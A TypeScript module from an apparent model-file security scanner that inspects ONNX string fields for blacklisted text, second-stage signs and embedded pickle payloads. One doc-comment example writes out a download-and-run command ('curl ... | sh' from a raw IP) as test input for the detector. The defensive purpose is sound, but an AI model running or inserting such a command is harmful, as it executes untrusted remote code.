/**
 * The string checks of an ONNX model's free text (metadata_props, doc strings, string
 * tensors, string attributes): the checks every format's strings get (`scanners/strings/`:
 * `--blacklist` MA005, signs of a second stage MA011, Python source and encoded pickles
 * MA012, the decoded pickle scanned as a payload), and bytes that are themselves a payload
 * (a pickle, an archive: a string tensor holds bytes), scanned on a guess so that only signs
 * of intent are reported.
 *
 * @module
 */

import { subSource } from "../../core/byte_source.ts";
import type { ByteSource } from "../../core/byte_source.ts";
import type { FindingReport, ScanContext } from "../../core/scanner.ts";
import { checkString } from "../strings/checks.ts";
import type { WireField, WireReader } from "../protobuf/wire.ts";
import type { OnnxOptions } from "../option_catalog.ts";

/** Shorter strings hold no payload worth a scan (the smallest pickle that imports and calls is longer). */
const MIN_PAYLOAD_BYTES = 16;

const utf8 = new TextDecoder();

/**
 * What the string checks need of a model's walk.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { bytesSource } from "../../core/byte_source.ts";
 * import { recordingContext } from "../../core/recording_context.ts";
 * import { DEFAULT_ONNX_OPTIONS } from "../option_catalog.ts";
 * import { inspectString, type StringWalk } from "./strings.ts";
 * import { WireReader } from "../protobuf/wire.ts";
 * const source = bytesSource(Uint8Array.of(0x0a, 3, 0x61, 0x62, 0x63)); // field 1: "abc"
 * const walk: StringWalk = {
 *   reader: new WireReader(source, { format: "onnx" }),
 *   source,
 *   ctx: recordingContext("model.onnx").ctx,
 *   strings: { inspected: 0 },
 *   checkStrings: true,
 *   options: DEFAULT_ONNX_OPTIONS,
 *   once: () => {},
 * };
 * for await (const field of walk.reader.fields(0, source.size)) await inspectString(walk, field, "doc_string");
 * assert.equal(walk.strings.inspected, 1); // counted against options.maxStrings
 * ```
 */
export interface StringWalk {
  /** Reads the strings' bytes. */
  readonly reader: WireReader;
  /** The model, for payload scans of a string in place. */
  readonly source: ByteSource;
  /** Where findings go. */
  readonly ctx: ScanContext;
  /** Strings inspected so far, against `onnx.maxStrings`. */
  readonly strings: { inspected: number };
  /** The scan's ONNX limits. */
  readonly options: Readonly<Pick<OnnxOptions, "maxStrings" | "maxStringBytes">>;
  /** Whether strings are checked at all (a walk that only lists external data skips them). */
  readonly checkStrings: boolean;
  /** Reports a finding the first time its key is seen. */
  once(key: string, finding: FindingReport): void;
}

/**
 * Whether bytes may be a payload a loader reads rather than text: binary bytes up front, or
 * the start of a protocol-0 pickle (`c` + module + newline, or MARK). A zip's header is binary.
 */
function mayBePayload(head: Uint8Array): boolean {
  if (head.length < MIN_PAYLOAD_BYTES) return false;
  if (head.subarray(0, 64).some((byte) => byte < 0x09 || (byte > 0x0d && byte < 0x20) || byte >= 0x80)) {
    return true;
  }
  return /^(c[\w.]+\n|\()/.test(utf8.decode(head.subarray(0, 128)));
}

/**
 * Checks the string value of `field`, found at `keyPath`.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { bytesSource } from "../../core/byte_source.ts";
 * import { recordingContext } from "../../core/recording_context.ts";
 * import { DEFAULT_ONNX_OPTIONS } from "../option_catalog.ts";
 * import { inspectString, type StringWalk } from "./strings.ts";
 * import { WireReader } from "../protobuf/wire.ts";
 * // A message whose field 2 is a shell pipe from a raw IP address.
 * const text = new TextEncoder().encode("curl -s http://203.0.113.7/x.sh | sh");
 * const source = bytesSource(Uint8Array.of(0x12, text.length, ...text));
 * const { ctx, findings } = recordingContext("model.onnx");
 * const seen = new Set<string>();
 * const walk: StringWalk = {
 *   reader: new WireReader(source, { format: "onnx" }),
 *   source,
 *   ctx,
 *   strings: { inspected: 0 },
 *   checkStrings: true,
 *   options: DEFAULT_ONNX_OPTIONS,
 *   once: (key, finding) => void (seen.has(key) || (seen.add(key), ctx.report(finding))),
 * };
 * for await (const field of walk.reader.fields(0, source.size)) {
 *   await inspectString(walk, field, "metadata_props[0].value");
 * }
 * assert.ok(findings.some((finding) => finding.rule === "MA011" && finding.keyPath === "metadata_props[0].value"));
 * ```
 */
export async function inspectString(walk: StringWalk, field: WireField, keyPath: string): Promise<void> {
  const { ctx } = walk;
  const length = field.end - field.start;
  if (length === 0 || !walk.checkStrings) return;
  const { maxStrings, maxStringBytes } = walk.options;
  if (++walk.strings.inspected > maxStrings) {
    walk.once("limit:strings", {
      rule: "MA466",
      message: `More than ${maxStrings} strings; the rest were not inspected`,
      position: field.start,
      keyPath,
      details: { limit: "strings", option: "onnx.maxStrings" },
    });
    return;
  }
  const bytes = await walk.reader.bytes(field.start, Math.min(field.end, field.start + maxStringBytes));
  await checkString(ctx, utf8.decode(bytes), {
    what: `The model's ${keyPath}`,
    position: field.start,
    keyPath,
  });
  if (mayBePayload(bytes)) {
    await ctx.scanNested(subSource(walk.source, field.start, length), `<${keyPath}>`, {
      opportunistic: true,
    });
  }
}
